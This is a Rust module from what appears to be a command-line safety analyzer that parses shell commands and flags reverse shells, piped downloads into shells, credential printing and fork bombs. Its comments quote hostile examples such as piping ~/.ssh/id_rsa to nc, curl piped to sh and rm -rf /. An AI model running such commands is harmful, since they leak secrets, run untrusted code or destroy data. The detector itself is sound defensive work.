//! The shell analyzer: decides a command line by what the shell would run.
//!
//! Flow: the [lexer] removes quotes and records expansions; [parse] groups tokens into simple
//! commands linked by pipes and resolves variables assigned earlier on the line; each command is
//! unwrapped ([`unwrap`]: `sudo`, `env`, `timeout`, `xargs`, `bash -c`, `ssh host cmd`, …) down to
//! the program that really runs, whose [programs] knowledge turns its arguments into facts.
//! Command substitutions, process substitutions, `eval` strings, here-documents fed to shells and
//! database clients, and literal payloads decoded from base64 are analysed as well, within the
//! depth budget. What a pipe carries from one command to the next is tracked as a [`Flow`], so
//! `curl … | sh` and `cat ~/.ssh/id_rsa | nc host 9` are seen for what they are.

pub(crate) mod lexer;
pub(crate) mod parse;
pub(crate) mod powershell;
pub(crate) mod programs;
pub(crate) mod unwrap;

use std::collections::HashMap;

use crate::fact::{Fact, Facts, Severity, Span, Target};
use crate::glob::Glob;
use crate::intent::Intent;
use crate::limits::Limits;

use self::lexer::{Redir, RedirKind};
use self::parse::{Arg, Command};

/// What the policy tells the shell analyzer.
#[derive(Debug, Clone, Default)]
pub(crate) struct ShellPolicy {
    /// Where data may go.
    pub(crate) destinations: crate::analyze::destination::Destinations,
    /// Branches that a force push must not rewrite.
    pub(crate) protected_branches: Vec<Glob>,
}

/// Per-action state.
#[derive(Debug)]
pub(crate) struct ShellState<'l> {
    pub(crate) depth_left: usize,
    pub(crate) commands_left: usize,
    pub(crate) limits: &'l Limits,
    pub(crate) policy: &'l ShellPolicy,
    pub(crate) vars: HashMap<String, Option<String>>,
    /// The working directory after a `cd` on this line, when known.
    pub(crate) cwd: Option<String>,
    pub(crate) sensitive_tables: &'l [Glob],
    /// The command text being analysed, for reading substitutions' inner text.
    pub(crate) current_src: Option<String>,
    /// Aliases defined earlier on the line (`alias x='rm -rf /'; x`).
    pub(crate) aliases: HashMap<String, String>,
    /// What the commands being analysed print reaches the terminal (not a command substitution).
    pub(crate) prints_to_terminal: bool,
    /// Files downloaded earlier on the line, and from where (`curl -o /tmp/i.sh URL`).
    pub(crate) downloads: Vec<(String, String)>,
}

impl ShellState<'_> {
    /// Notes that `path` now holds what `url` served.
    pub(crate) fn downloaded(&mut self, path: &str, url: &str) {
        if self.downloads.len() < 16 && !path.is_empty() && path != "-" && path != "/dev/null" {
            self.downloads.push((path.trim_start_matches("./").to_owned(), url.to_owned()));
        }
    }

    /// The URL a file run now was downloaded from earlier on the line (`wget -O u.sh URL && sh
    /// u.sh`, `curl -O URL/i.sh; chmod +x i.sh; ./i.sh`).
    pub(crate) fn download_run(&self, path: &str) -> Option<&str> {
        let path = path.trim_start_matches("./");
        let base = |p: &str| p.rsplit('/').next().unwrap_or(p).to_owned();
        self.downloads
            .iter()
            .rev()
            .find(|(file, _)| file == path || (!path.contains('/') || !file.contains('/')) && base(file) == base(path))
            .map(|(_, url)| url.as_str())
    }
}

impl<'l> ShellState<'l> {
    pub(crate) fn new(limits: &'l Limits, policy: &'l ShellPolicy, sensitive_tables: &'l [Glob]) -> ShellState<'l> {
        ShellState {
            depth_left: limits.max_depth,
            commands_left: limits.max_statements,
            limits,
            policy,
            vars: HashMap::new(),
            cwd: None,
            sensitive_tables,
            current_src: None,
            aliases: HashMap::new(),
            prints_to_terminal: true,
            downloads: Vec::new(),
        }
    }
}

/// What a command writes to its standard output, as far as a pipe's reader is concerned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Flow {
    /// Nothing is piped or redirected in: the terminal.
    Terminal,
    /// Something whose content is not known.
    Unknown,
    /// Literal text (`echo …`, a here-document, a decoded payload).
    Text(String),
    /// Content downloaded from this URL.
    Remote(String),
    /// Secrets: credential files, environment variables.
    Secret(String),
    /// Bulk data: database dumps, archives, exports.
    Data(String),
}

/// One command about to be checked: its resolved arguments and surroundings.
#[derive(Debug)]
pub(crate) struct Invocation<'a> {
    pub(crate) args: Vec<Arg>,
    pub(crate) stdin: Flow,
    pub(crate) redirs: &'a [Redir],
    /// Where facts point.
    pub(crate) report: Span,
    /// What each command substitution in the arguments produced.
    pub(crate) subst_flows: Vec<(Span, Flow)>,
}

impl Invocation<'_> {
    /// The argument values.
    pub(crate) fn values(&self) -> Vec<&str> {
        self.args.iter().map(|a| a.value.as_str()).collect()
    }

    pub(crate) fn fact(
        &self,
        intent: Intent,
        severity: Severity,
        detector: &'static str,
        target: Option<Target>,
        message: String,
    ) -> Fact {
        Fact { intent, severity, span: self.report, detector, target, message, location: None }
    }
}

/// Analyses `text` as a command line. With `report`, facts point there (nested command text).
/// Returns what the last command prints.
pub(crate) fn analyze(text: &str, report: Option<Span>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let whole = report.unwrap_or(Span::new(0, text.len()));
    let report_is_terminal = st.prints_to_terminal;
    if text.len() > st.limits.max_input_bytes {
        facts.push(unanalyzable(
            whole,
            format!("the command is {} bytes, over the {}-byte limit", text.len(), st.limits.max_input_bytes),
        ));
        return Flow::Unknown;
    }
    if programs::system::is_fork_bomb(text) {
        facts.push(Fact {
            intent: Intent::SystemDisrupt,
            severity: Severity::Critical,
            span: whole,
            detector: programs::system::DETECTOR.id,
            target: None,
            message: "a fork bomb exhausts the host's processes".to_owned(),
            location: None,
        });
    }
    let mut commands = parse::commands(lexer::tokenize(text));
    let outer_src = st.current_src.replace(text.to_owned());
    let mut outputs: Vec<Flow> = Vec::with_capacity(commands.len());
    for index in 0..commands.len() {
        let cmd = std::mem::take(&mut commands[index]);
        let to_file =
            cmd.redirs.iter().any(|r| matches!(r.kind, RedirKind::Out | RedirKind::Append) && r.fd.unwrap_or(1) == 1);
        // The first command of a top-level line is free: one simple command is always analysed,
        // as the fast path assumes; the budget bounds everything beyond it.
        let free = report.is_none() && index == 0;
        if !free && st.commands_left == 0 {
            facts.push(unanalyzable(whole, "the command line has more commands than the limit".to_owned()));
            return Flow::Unknown;
        }
        if !free {
            st.commands_left -= 1;
        }
        let report = report.unwrap_or(cmd.span);
        let stdin = stdin_of(&cmd, &outputs, text, report, st, facts);
        let out = command(cmd, text, report, stdin, st, facts);
        // A secret printed on the terminal is read by whoever runs the line (`base64 <
        // ~/.aws/credentials`, `printenv`): for an agent, into its transcript.
        // Its output reaches the terminal when no file and no later command's pipe takes it.
        let printed = || !to_file && !commands[index + 1..].iter().any(|later| later.piped_from == Some(index));
        if let (true, Flow::Secret(what)) = (report_is_terminal && matches!(out, Flow::Secret(_)) && printed(), &out) {
            facts.push(Fact {
                intent: Intent::CredentialRead,
                severity: Severity::High,
                span: report,
                detector: programs::credentials::DETECTOR.id,
                target: None,
                message: format!("prints {what}"),
                location: None,
            });
        }
        outputs.push(out);
    }
    st.current_src = outer_src;
    outputs.pop().unwrap_or(Flow::Unknown)
}

/// What a command reads on standard input: its here-document or here-string, else the output of
/// the command piped into it.
fn stdin_of(
    cmd: &Command,
    outputs: &[Flow],
    src: &str,
    report: Span,
    st: &mut ShellState<'_>,
    facts: &mut Facts,
) -> Flow {
    for r in &cmd.redirs {
        match r.kind {
            RedirKind::Heredoc => {
                if let Some(body) = r.body {
                    return Flow::Text(src.get(body.range()).unwrap_or("").to_owned());
                }
            }
            RedirKind::HereString => {
                let arg = r.target.as_ref().map(|t| parse::resolve(t, &st.vars));
                return match arg {
                    Some(a) if !a.dynamic => Flow::Text(a.value),
                    _ => Flow::Unknown,
                };
            }
            RedirKind::In => {
                let Some(target) = &r.target else { continue };
                let arg = parse::resolve(target, &st.vars);
                // `bash < <(curl …)`: the process substitution's output is the input.
                if let Some(inner) = arg.proc_substs.first() {
                    return captured(src.get(inner.range()).unwrap_or(""), report, st, facts);
                }
                return programs::credentials::flow_of_file(&arg.value);
            }
            _ => {}
        }
    }
    match cmd.piped_from {
        Some(i) => outputs.get(i).cloned().unwrap_or(Flow::Unknown),
        None => Flow::Terminal,
    }
}

fn command(cmd: Command, src: &str, report: Span, stdin: Flow, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    // Assignments take effect for the rest of the line (and, as a prefix, for this command).
    let mut subst_flows = Vec::new();
    for (name, value) in &cmd.assigns {
        let arg = parse::resolve(value, &st.vars);
        let flows = substitutions(&arg, src, report, st, facts);
        // `X=$(echo rm)` is as known as its substitution's literal output.
        let known = match (arg.dynamic, flows.as_slice()) {
            (false, _) => Some(arg.value.clone()),
            (true, [(_, Flow::Text(t))]) if arg.substs.len() == 1 && arg.value == "$(…)" => {
                Some(t.trim_end().to_owned())
            }
            _ => None,
        };
        st.vars.insert(name.clone(), known.filter(|v| v.len() <= parse::MAX_VALUE_BYTES));
        subst_flows.extend(flows);
    }
    let args: Vec<Arg> =
        parse::split_words(cmd.words.into_iter().map(|w| parse::resolve_owned(w, &st.vars)).collect(), &st.vars);
    for a in &args {
        let flows = substitutions(a, src, report, st, facts);
        subst_flows.extend(flows);
    }
    let inv = Invocation { args, stdin, redirs: &cmd.redirs, report, subst_flows };
    programs::redirections::check(&inv, st, facts);
    let sockets = programs::redirections::sockets(&inv, st);
    let shell = inv.args.first().is_some_and(|a| SHELLS.contains(&program_name(&a.value)));
    let redirected_to = stdout_file(inv.redirs, st);
    let out = unwrap::run(inv, st, facts);
    // `curl URL > /tmp/i.sh`: the file now holds the download.
    if let (Flow::Remote(url), Some(file)) = (&out, &redirected_to) {
        st.downloaded(file, url);
    }
    // `cmd > /dev/tcp/host/port`: the output goes over the network; a shell wired to a socket is
    // a reverse shell.
    for host in sockets {
        if shell {
            facts.push(Fact {
                intent: Intent::ExecRemoteCode,
                severity: Severity::Critical,
                span: report,
                detector: programs::network::REMOTE_CODE_DETECTOR.id,
                target: Some(Target { kind: "location", name: host.clone() }),
                message: format!("a shell wired to /dev/tcp/{host} is a reverse shell"),
                location: None,
            });
        } else {
            programs::network::send_flow(report, &host, out.clone(), st.policy, facts);
        }
    }
    out
}

/// The file a command's standard output is written to (`> file`), when known.
fn stdout_file(redirs: &[Redir], st: &ShellState<'_>) -> Option<String> {
    let r =
        redirs.iter().rev().find(|r| matches!(r.kind, RedirKind::Out | RedirKind::Append) && r.fd.unwrap_or(1) == 1)?;
    let arg = parse::resolve(r.target.as_ref()?, &st.vars);
    (!arg.dynamic).then_some(arg.value)
}

/// Shells, whose input is code.
pub(crate) const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "csh", "tcsh"];

/// Command substitutions run too (`x=$(rm -rf /)`); returns what each one printed.
fn substitutions(arg: &Arg, src: &str, report: Span, st: &mut ShellState<'_>, facts: &mut Facts) -> Vec<(Span, Flow)> {
    arg.substs
        .iter()
        .chain(arg.proc_substs.iter())
        .map(|s| (*s, captured(src.get(s.range()).unwrap_or(""), report, st, facts)))
        .collect()
}

/// Analyses a substitution's commands, whose output the shell captures instead of printing.
fn captured(text: &str, report: Span, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let outer = std::mem::replace(&mut st.prints_to_terminal, false);
    let out = nested(text, report, st, facts);
    st.prints_to_terminal = outer;
    out
}

/// Analyses nested command text within the depth budget; returns what its last command prints.
pub(crate) fn nested(text: &str, report: Span, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    if st.depth_left == 0 {
        facts.push(unanalyzable(report, "commands are nested deeper than the limit".to_owned()));
        return Flow::Unknown;
    }
    st.depth_left -= 1;
    let saved_cwd = st.cwd.clone();
    let out = analyze(text, Some(report), st, facts);
    st.cwd = saved_cwd;
    st.depth_left += 1;
    out
}

pub(crate) fn unanalyzable(span: Span, why: String) -> Fact {
    Fact::unanalyzable(span, "shell/unanalyzable", format!("the command could not be analysed: {why}"))
}

/// The program name of an argument: its last path component (`/usr/bin/rm` is `rm`), with an
/// interpreter's version dropped (`python3.11` is `python3`, `perl5.36` is `perl`).
pub(crate) fn program_name(arg: &str) -> &str {
    let base = arg.rsplit('/').next().unwrap_or(arg);
    for interpreter in ["python3", "python2", "python", "perl", "ruby", "node", "php", "lua"] {
        if let Some(version) = base.strip_prefix(interpreter) {
            if !version.is_empty() && version.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
                return interpreter;
            }
        }
    }
    base
}
